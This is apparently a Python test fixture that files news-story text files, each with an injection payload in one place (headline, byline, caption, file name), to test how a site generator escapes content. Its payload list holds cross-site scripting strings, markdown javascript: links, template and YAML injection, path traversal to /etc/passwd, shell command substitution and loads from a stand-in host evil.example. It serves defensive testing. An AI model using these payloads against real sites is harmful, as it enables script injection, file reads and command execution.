"""Hostile copy of our own: what attacks pages, feeds, files and readers, in every place that a story has.

Inert text: nothing here is run, and what it asks for is nowhere.  What a payload would run calls ``alert``.
"""

from __future__ import annotations

import re
from typing import TYPE_CHECKING

if TYPE_CHECKING:
    from collections.abc import Iterable, Mapping
    from pathlib import Path

SITE = "https://quay.example"
"""The address of the sites that are published to try it."""

PAYLOADS: Mapping[str, str] = {
    "script": "<script>alert(1)</script>",
    "script-in-capitals": '</ScRiPt ><SCRIPT/x src="//evil.example/x.js"></SCRIPT>',
    "picture": "<img src=x onerror=alert(1)>",
    "picture-unclosed": '<img src="x" onerror="alert(1)" ',
    "drawing": "<svg/onload=alert(1)><animate onbegin=alert(1) attributeName=x dur=1s>",
    "formula": "<math><mtext><table><mglyph><style><img src=x onerror=alert(1)>",
    "frame": '<iframe srcdoc="<script>alert(1)</script>"></iframe>',
    "form": '<form action="//evil.example"><input autofocus onfocus=alert(1)><button>Vote',
    "base": '<base href="//evil.example/"><meta http-equiv=refresh content="0;url=//evil.example">',
    "sheet": "<style>@import'//evil.example/x.css';*{display:none}</style><link rel=stylesheet href=//x>",
    "plain-text": "<plaintext>",
    "text-area": "</title></textarea><textarea><title>",
    "comment": "<!-- --!><script>alert(1)</script> -->",
    "character-data": "]]><![CDATA[<script>alert(1)</script>]]>",
    "out-of-an-attribute": '" autofocus tabindex=1 onfocus=alert(1) x="',
    "out-of-single-quotes": "' onmouseover='alert(1)' style='position:fixed;inset:0",
    "entities": "&lt;script&gt;alert(1)&lt;/script&gt;&#x22; onfocus=&#97;lert(1)",
    "twice-escaped": "&amp;lt;img src=x onerror=alert(1)&amp;gt;",
    "json": '"}</script><script>alert(1)</script>{"a":"\\u003cscript>',
    "markdown-link": '[the harbour](javascript:alert(1)) ![x](x"onerror="alert(1))',
    "markdown-link-veiled": "[x](JaVa&Tab;ScRiPt&colon;alert(1)) <javascript:alert(1)> [y][z]",
    "markdown-data": "[x](data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==)",
    "markdown-attributes": "**x** {: onclick=alert(1) autofocus tabindex=1 onfocus=alert(1) }",
    "markdown-fence": '```"><script>alert(1)</script>',
    "attach": "[x]({attach}/../../../../etc/passwd) |attach|/etc/passwd {static}/../x",
    "template": "{{ 7*7 }}{% include '/etc/passwd' %}{# x #}${7*7}<%= 7*7 %>%s%(x)s{0}",
    "path": "../../../../etc/passwd\\..\\..\\con.txt%2e%2e%2f",
    "shell": "$(touch x) `touch x` ; touch x | touch x && touch x",
    "yaml": "--- !!python/object/apply:os.system ['true'] &a *a",
    "direction": "\u202e\u2066txt.exe\u202d \u200f\u061c",
    "unseen": "har\u200bbour\U000e0041\U000e0042\u00ad\ufeff\u2060",
    "controls": "har\x00bour\x07\x1b[31m\x08\x7f\x9b",
}

HARMLESS: Mapping[str, str] = {"x": "x"}

SLOTS: Mapping[str, str] = {
    "label": "{} Harbour",
    "headline": "Ferries {} resume at the old quay",
    "caption": "The ferry {} at its berth on Sunday. (Photo: Jane Roe)",
    "byline": "By Jane {} Roe",
    "paragraph": "The harbour master read out what stood on the board, {}, and nobody obeyed.",
    "crosshead": "- Room {} at the Quay",
    "quotation": '"We had stopped hoping {} for a boat," said Ilsa Morand, who keeps the book.',
    "source": "Source: Kellmark {} Gazette",
    "name": "",
}
"""The places of a story for a payload, and what stands about it; the last is the file's name."""
LONGEST_NAME = 200
"""In bytes; file systems take 255."""

_ORDER = ("label", "headline", "byline", "caption", "paragraph", "quotation", "crosshead", "source")
_OPENING = (
    "KELLMARK (Harbour Wire) - The council will decide on the second quay in spring, "
    "when the price of stone is known."
)
"""A dateline says where the text begins: what a payload makes of a line moves no other."""
_WITHOUT_SLASH = re.compile(r"[/\x00]")


def story(payloads: Mapping[str, str], number: int) -> str:
    """Return the copy of a story with payloads in their places, and nothing odd in the others."""
    lines = {place: text.format(payloads.get(place, "x")) for place, text in SLOTS.items()}
    ordered = [lines[name] for name in _ORDER]
    # What no other story has: a text that comes twice is shown once.
    arrivals = ", ".join(f"q{number}w{place}" for place in range(40))
    ordered.insert(_ORDER.index("paragraph"), _OPENING)
    ordered.insert(-1, f"The book of arrivals reads on this day: {arrivals}.")
    return "\n\n".join(ordered) + "\n"


def file_name(payloads: Mapping[str, str], number: int) -> str:
    """Return the name of a story's file, with the payload in it if that is its place."""
    name = _WITHOUT_SLASH.sub("_", f"{number:04} {payloads.get('name', '')}".strip())
    return name.encode()[:LONGEST_NAME].decode(errors="ignore") + ".txt"


def places(payloads: Mapping[str, str]) -> list[tuple[str, str]]:
    """Return the place and the payload's name of each story, by its number."""
    return [(slot, name) for name in payloads for slot in SLOTS]


def write(content: Path, payloads: Mapping[str, str]) -> None:
    """File a story for each payload in each place."""
    file(content, ({slot: payloads[name]} for slot, name in places(payloads)))


def file(content: Path, stories: Iterable[Mapping[str, str]], a_day: int = 1) -> None:
    """File a story for each mapping of places to payloads, so many a day."""
    for number, payloads in enumerate(stories):
        # Days lie apart, so that no story is told to go on with another.
        place = number // a_day
        day = f"2026-{1 + place % 12:02}-{1 + place // 12 % 28:02}"
        path = content / "gazette" / day / file_name(payloads, number)
        path.parent.mkdir(parents=True, exist_ok=True)
        path.write_text(story(payloads, number), encoding="utf-8")
